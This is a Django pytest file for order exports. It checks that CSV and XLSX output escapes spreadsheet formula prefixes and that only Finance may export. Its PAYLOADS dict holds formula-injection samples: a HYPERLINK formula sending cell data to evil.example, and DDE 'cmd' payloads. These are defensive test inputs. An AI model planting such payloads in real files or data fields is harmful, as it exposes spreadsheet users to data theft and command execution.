"""Order exports (issue 8, finding 3 and the export permission): every text cell is escaped
against spreadsheet formulas in the admin's CSV and XLSX and in `manage.py export_orders`;
exporting needs `orders.export_order` (Finance, administrators), not just "view". The admin's
export page itself (issue 11: filters, streaming, large selections): test_admin_export.py."""

from __future__ import annotations

import csv
import io
import os
import subprocess
import sys
from datetime import datetime
from decimal import Decimal
from pathlib import Path

import openpyxl
from openpyxl.utils.escape import unescape
import pytest
from django.contrib.auth.models import Group
from django.core.management import call_command
from django.core.management.base import CommandError
from django.db import connection
from django.test import Client
from django.test.utils import CaptureQueriesContext
from django.urls import reverse
from django.utils import timezone

from orders import exports
from orders.exports import COLUMNS
from orders.models import Batch, Order, OrderStatus, Recipient
from providers.models import PricingKind, Product, ProviderAccount
from tests.fixtures.data import make_batch

ROOT = Path(__file__).resolve().parents[2]
CHANGELIST = reverse("admin:orders_order_changelist")
EXPORT_URL = reverse("admin:orders_order_export")
CSV_FORMAT, XLSX_FORMAT = "csv", "xlsx"  # the export page's two buttons (name="format")

# One payload per character a spreadsheet starts a formula with (OWASP's list).
PAYLOADS = {
    "=": '=HYPERLINK("http://evil.example/?d="&A2,"Open")',
    "+": "+1+cmd|' /C calc'!A0",
    "-": "-2+3+cmd|' /C calc'!A0",
    "@": "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t": "\t=1+1",
    "\r": "\r=1+1",
}
# Where uploaded or provider text reaches an export.
HOSTILE_COLUMNS = ["batch", "campaign", "recipient_name", "last_error"]


def hostile_order(account, prefix: str) -> Order:
    """An order whose batch name, campaign, recipient name and last error start with `prefix`."""
    payload = PAYLOADS[prefix]
    batch = make_batch(account, ["100"])
    Batch.objects.filter(pk=batch.pk).update(name=f"{payload} batch", campaign=f"{payload} campaign")
    order = batch.orders.get()
    Recipient.objects.filter(pk=order.recipient_id).update(name=f"{payload} name")
    Order.objects.filter(pk=order.pk).update(status=OrderStatus.FAILED, last_error=f"{payload} error")
    return order


def expected_cells(prefix: str) -> dict[str, str]:
    payload = PAYLOADS[prefix]
    suffix = {"batch": "batch", "campaign": "campaign", "recipient_name": "name", "last_error": "error"}
    return {column: f"'{payload} {suffix[column]}" for column in HOSTILE_COLUMNS}


def csv_rows(content: str) -> list[dict[str, str]]:
    return list(csv.DictReader(io.StringIO(content.removeprefix("\ufeff"), newline="")))


def csv_file_rows(path: Path) -> list[dict[str, str]]:
    with path.open(newline="", encoding="utf-8") as stream:  # a carriage return stays one
        return csv_rows(stream.read())


def xlsx_rows(content: bytes) -> list[dict[str, object]]:
    """Each data row by header; asserts first that no cell of the workbook is a formula."""
    sheet = openpyxl.load_workbook(io.BytesIO(content)).worksheets[0]
    formulas = [cell.coordinate for row in sheet.iter_rows() for cell in row if cell.data_type == "f"]
    assert formulas == []
    rows = [[unescape(value) if isinstance(value, str) else value for value in row]
            for row in sheet.iter_rows(values_only=True)]  # "_x000D_" is a carriage return, as Excel reads it
    return [dict(zip(rows[0], row)) for row in rows[1:]]


def staff_client(username: str, group: str | None) -> Client:
    from django.contrib.auth import get_user_model

    user = get_user_model().objects.create_user(username, password="not-used-here", is_staff=True)
    if group:
        user.groups.add(Group.objects.get(name=group))
    client = Client()
    client.force_login(user)
    return client


@pytest.fixture
def finance(db) -> Client:
    return staff_client("fiona", "Finance")


@pytest.fixture
def sender(db) -> Client:
    return staff_client("sam", "Senders")


def admin_export(client: Client, orders: list[Order], file_format: str):
    """What a user does: select orders, choose "Export the selected orders", then CSV or XLSX
    on the export page. The response's file is read (it is streamed) into `response.file`."""
    ids = [order.pk for order in orders]
    redirect = client.post(CHANGELIST, {"action": "export_selected_orders", "_selected_action": ids})
    assert redirect.status_code == 302, redirect.status_code
    page = client.get(redirect["Location"])
    assert page.status_code == 200 and 'name="format"' in page.content.decode()
    response = client.post(redirect["Location"], {"format": file_format})
    response.file = b"".join(response.streaming_content) if response.streaming else response.content
    return response


def export_orders(*args) -> tuple[int, str]:
    """Run the command as the shell would; its exit status and what it printed."""
    out = io.StringIO()
    try:
        call_command("export_orders", *[str(arg) for arg in args], stdout=out, stderr=out)
    except CommandError as exc:
        return exc.returncode, str(exc)
    return 0, out.getvalue()


# --- Formula escaping ---------------------------------------------------------------------------

@pytest.mark.parametrize("prefix", PAYLOADS, ids=repr)
def test_the_admin_csv_export_escapes_every_formula_prefix(finance, global_gift_card, prefix):
    order = hostile_order(global_gift_card.account, prefix)

    response = admin_export(finance, [order], CSV_FORMAT)

    assert response.status_code == 200 and "text/csv" in response["Content-Type"]
    [row] = csv_rows(response.file.decode())
    assert {column: row[column] for column in HOSTILE_COLUMNS} == expected_cells(prefix)


@pytest.mark.parametrize("prefix", PAYLOADS, ids=repr)
def test_the_admin_xlsx_export_escapes_every_formula_prefix(finance, global_gift_card, prefix):
    order = hostile_order(global_gift_card.account, prefix)

    response = admin_export(finance, [order], XLSX_FORMAT)

    assert response.status_code == 200 and "spreadsheetml" in response["Content-Type"]
    [row] = xlsx_rows(response.file)
    assert {column: row[column] for column in HOSTILE_COLUMNS} == expected_cells(prefix)


@pytest.mark.parametrize("file_format", ["csv", "xlsx"])
@pytest.mark.parametrize("prefix", PAYLOADS, ids=repr)
def test_export_orders_escapes_every_formula_prefix(global_gift_card, tmp_path, prefix, file_format):
    hostile_order(global_gift_card.account, prefix)
    output = tmp_path / f"orders.{file_format}"

    code, printed = export_orders("--format", file_format, "--output", output)

    assert (code, printed.strip()) == (0, f"Exported 1 order to {output}")
    [row] = csv_file_rows(output) if file_format == "csv" else xlsx_rows(output.read_bytes())
    assert {column: row[column] for column in HOSTILE_COLUMNS} == expected_cells(prefix)


def test_a_negative_amount_like_name_stays_text_and_real_amounts_stay_numbers(finance, global_gift_card, tmp_path):
    order = make_batch(global_gift_card.account, ["150"]).orders.get()
    Recipient.objects.filter(pk=order.recipient_id).update(name="-100.00")
    Order.objects.filter(pk=order.pk).update(cost=Decimal("148.50"), cost_currency="DKK")

    [admin_row] = xlsx_rows(admin_export(finance, [order], XLSX_FORMAT).file)
    export_orders("--format", "xlsx", "--output", tmp_path / "o.xlsx")
    [command_row] = xlsx_rows((tmp_path / "o.xlsx").read_bytes())
    export_orders("--format", "csv", "--output", tmp_path / "o.csv")
    [csv_row] = csv_file_rows(tmp_path / "o.csv")

    for row in (admin_row, command_row, csv_row):
        assert row["recipient_name"] == "'-100.00"
    for row in (admin_row, command_row):
        assert (row["amount"], row["cost"]) == (150, 148.5)
    assert (csv_row["amount"], csv_row["cost"]) == ("150.00", "148.50")  # exact, as stored


def test_legitimate_values_are_exported_unchanged(finance, global_gift_card, tmp_path):
    order = make_batch(global_gift_card.account, ["100"]).orders.get()
    Recipient.objects.filter(pk=order.recipient_id).update(
        name="Anne-Marie Sørensen", email="anne-marie@example.com", reference="E-0042")
    Batch.objects.filter(pk=order.batch_id).update(name="Jul 2026 = tak", campaign="HR - Q4")
    order.refresh_from_db()
    order.set_card_code("GIFT-CODE-WXYZ")
    order.save()
    wanted = {"recipient_name": "Anne-Marie Sørensen", "recipient_email": "anne-marie@example.com",
              "recipient_reference": "E-0042", "batch": "Jul 2026 = tak", "campaign": "HR - Q4",
              "card_code": "••••WXYZ", "reference": order.reference}

    [admin_csv] = csv_rows(admin_export(finance, [order], CSV_FORMAT).file.decode())
    export_orders("--format", "csv", "--output", tmp_path / "o.csv")
    [command_csv] = csv_file_rows(tmp_path / "o.csv")
    export_orders("--format", "xlsx", "--output", tmp_path / "o.xlsx")
    [command_xlsx] = xlsx_rows((tmp_path / "o.xlsx").read_bytes())

    for row in (admin_csv, command_csv, command_xlsx):
        assert {column: row[column] for column in wanted} == wanted
    assert "GIFT-CODE-WXYZ" not in (tmp_path / "o.csv").read_text("utf-8")


# --- export_orders: columns, filters, errors ------------------------------------------------------

def other_account() -> ProviderAccount:
    account = ProviderAccount.objects.create(name="Gifty NL", kind="gifty")
    Product.objects.create(account=account, provider_product_id="gc", sku="GIFTY-EUR", title="Gifty card",
                           currency="EUR", pricing=PricingKind.RANGE, min_amount=Decimal("5"),
                           max_amount=Decimal("500"), step=Decimal("1"))
    return account


def created_on(order: Order, *when: int) -> Order:
    Order.objects.filter(pk=order.pk).update(created_at=timezone.make_aware(datetime(*when)))
    return order


@pytest.fixture
def three_orders(global_gift_card, settings):
    settings.TIME_ZONE = "Europe/Copenhagen"  # days are the server's local days
    gogift = global_gift_card.account
    january = created_on(make_batch(gogift, ["100"]).orders.get(), 2026, 1, 31, 23, 30)
    february = created_on(make_batch(gogift, ["200"]).orders.get(), 2026, 2, 1, 0, 30)
    Order.objects.filter(pk=february.pk).update(status=OrderStatus.FAILED)
    gifty = created_on(make_batch(other_account(), ["25"], sku="GIFTY-EUR").orders.get(), 2026, 2, 11, 12)
    return {"january": january.reference, "february": february.reference, "gifty": gifty.reference}


@pytest.mark.parametrize("options, expected", [
    ([], ["january", "february", "gifty"]),
    (["--from", "2026-02-01"], ["february", "gifty"]),
    (["--to", "2026-01-31"], ["january"]),
    (["--from", "2026-02-01", "--to", "2026-02-01"], ["february"]),
    (["--account", "Gifty NL"], ["gifty"]),
    (["--status", "failed"], ["february"]),
    (["--account", "GoGift sandbox", "--status", "pending"], ["january"]),
])
def test_export_orders_filters(three_orders, tmp_path, options, expected):
    output = tmp_path / "orders.csv"
    code, printed = export_orders("--format", "csv", "--output", output, *options)
    rows = csv_file_rows(output)
    assert code == 0 and f"Exported {len(expected)} order" in printed
    assert [row["reference"] for row in rows] == [three_orders[name] for name in expected]


def test_export_orders_writes_finances_columns(global_gift_card, tmp_path, admin_user):
    order = make_batch(global_gift_card.account, ["250"]).orders.get()
    sent, delivered = timezone.make_aware(datetime(2026, 3, 2, 9)), timezone.make_aware(datetime(2026, 3, 2, 10))
    Batch.objects.filter(pk=order.batch_id).update(created_by=admin_user, approved_by=admin_user, campaign="HR")
    Order.objects.filter(pk=order.pk).update(
        status=OrderStatus.DELIVERED, submitted_at=sent, completed_at=delivered, cost=Decimal("251.25"),
        cost_currency="DKK", provider_order_id="GG-1")

    export_orders("--format", "csv", "--output", tmp_path / "o.csv")
    [row] = csv_file_rows(tmp_path / "o.csv")
    export_orders("--format", "xlsx", "--output", tmp_path / "o.xlsx")
    [cells] = xlsx_rows((tmp_path / "o.xlsx").read_bytes())

    assert list(row) == [column.name for column in COLUMNS]
    assert (tmp_path / "o.csv").stat().st_mode & 0o777 == 0o600  # personal data: its owner's only
    assert {key: row[key] for key in ["sent_at", "delivered_at", "uploaded_by", "approved_by", "provider",
                                      "account", "product", "amount", "currency", "cost", "status",
                                      "provider_order_id"]} == {
        "sent_at": "2026-03-02T09:00:00+00:00", "delivered_at": "2026-03-02T10:00:00+00:00",
        "uploaded_by": "admin", "approved_by": "admin", "provider": "gogift", "account": "GoGift sandbox",
        "product": "The Global Gift Card", "amount": "250.00", "currency": "DKK", "cost": "251.25",
        "status": "delivered", "provider_order_id": "GG-1"}
    assert (cells["delivered_at"], cells["cost"]) == (datetime(2026, 3, 2, 10), 251.25)


def test_export_orders_reads_the_orders_in_a_constant_number_of_queries(global_gift_card, tmp_path, admin_user):
    def queries_for_export() -> int:
        with CaptureQueriesContext(connection) as queries:
            export_orders("--format", "xlsx", "--output", tmp_path / "o.xlsx")
        return len(queries)

    make_batch(global_gift_card.account, ["100"])
    one = queries_for_export()
    for _ in range(3):
        batch = make_batch(global_gift_card.account, ["100"] * 5)
        Batch.objects.filter(pk=batch.pk).update(created_by=admin_user, approved_by=admin_user)
    assert queries_for_export() == one  # no query per order, per batch or per user


@pytest.mark.parametrize("options, message", [
    (["--from", "31-12-2026"], "--from '31-12-2026' is not a date: write it as YYYY-MM-DD"),
    (["--to", "2026-02-30"], "--to '2026-02-30' is not a date"),
    (["--from", "2026-03-01", "--to", "2026-02-01"], "--from is after --to"),
    (["--account", "Nope"], "No account named 'Nope'. Accounts: GoGift sandbox."),
    (["--status", "sent"], "No order status 'sent'. Statuses: pending, queued, sending, processing, "
                           "delivered, failed, cancelled."),
])
def test_export_orders_refuses_bad_options_with_exit_status_2(global_gift_card, tmp_path, options, message):
    output = tmp_path / "orders.csv"
    code, printed = export_orders("--format", "csv", "--output", output, *options)
    assert code == 2 and message in printed
    assert list(tmp_path.iterdir()) == []


def test_export_orders_refuses_an_output_it_cannot_write(global_gift_card, tmp_path):
    code, printed = export_orders("--format", "csv", "--output", tmp_path / "missing" / "orders.csv")
    assert code == 2 and "Cannot write" in printed and "No such file or directory" in printed
    code, printed = export_orders("--format", "csv", "--output", tmp_path)
    assert code == 2 and "it is a directory" in printed


def test_a_failed_export_leaves_the_previous_file_and_no_part_file(global_gift_card, tmp_path, monkeypatch):
    make_batch(global_gift_card.account, ["100", "200", "300"])
    output = tmp_path / "orders.xlsx"
    output.write_bytes(b"yesterday's export")
    monkeypatch.setattr(exports, "XLSX_MAX_ORDERS", 2)  # the sheet fills up on the third order

    code, printed = export_orders("--format", "xlsx", "--output", output)

    assert code == 2 and "do not fit in one XLSX sheet" in printed
    assert output.read_bytes() == b"yesterday's export"
    assert [path.name for path in tmp_path.iterdir()] == ["orders.xlsx"]


def test_the_shell_gets_exit_status_2_for_bad_arguments(tmp_path):
    env = {**os.environ, "DJANGO_SETTINGS_MODULE": "tests.settings"}
    for arguments, message in [
        (["--format", "pdf", "--output", "x"], "invalid choice: 'pdf'"),
        (["--format", "csv"], "the following arguments are required: --output"),
    ]:
        done = subprocess.run([sys.executable, "manage.py", "export_orders", *arguments], cwd=ROOT, env=env,
                              capture_output=True, text=True, timeout=120)
        assert done.returncode == 2 and message in done.stderr


# --- Who may export -------------------------------------------------------------------------------

def test_finance_sees_the_export_action_and_exports(finance, global_gift_card):
    order = make_batch(global_gift_card.account, ["100"]).orders.get()
    listing = finance.get(CHANGELIST).content.decode()
    assert 'value="export_selected_orders"' in listing and 'id="export-orders"' in listing
    response = admin_export(finance, [order], CSV_FORMAT)
    assert response.status_code == 200 and order.reference in response.file.decode()


@pytest.mark.parametrize("group", ["Senders", "Approvers", None])
def test_viewing_orders_is_not_enough_to_export(db, global_gift_card, group):
    client = staff_client("viewer", group)
    order = make_batch(global_gift_card.account, ["100"]).orders.get()
    ids = [order.pk]

    if group:  # they may read the list, without the action or the button
        page = client.get(CHANGELIST).content.decode()
        assert "export_selected_orders" not in page and 'id="export-orders"' not in page and EXPORT_URL not in page
    action = client.post(CHANGELIST, {"action": "export_selected_orders", "_selected_action": ids})
    export_page = client.get(EXPORT_URL)
    export_file = client.post(EXPORT_URL, {"format": CSV_FORMAT})

    assert action.status_code != 302 or EXPORT_URL not in action["Location"]
    assert (export_page.status_code, export_file.status_code) == (403, 403)


def test_the_migration_gives_finance_alone_the_export_permission(db):
    holders = Group.objects.filter(permissions__codename="export_order", permissions__content_type__app_label="orders")
    assert list(holders.values_list("name", flat=True)) == ["Finance"]
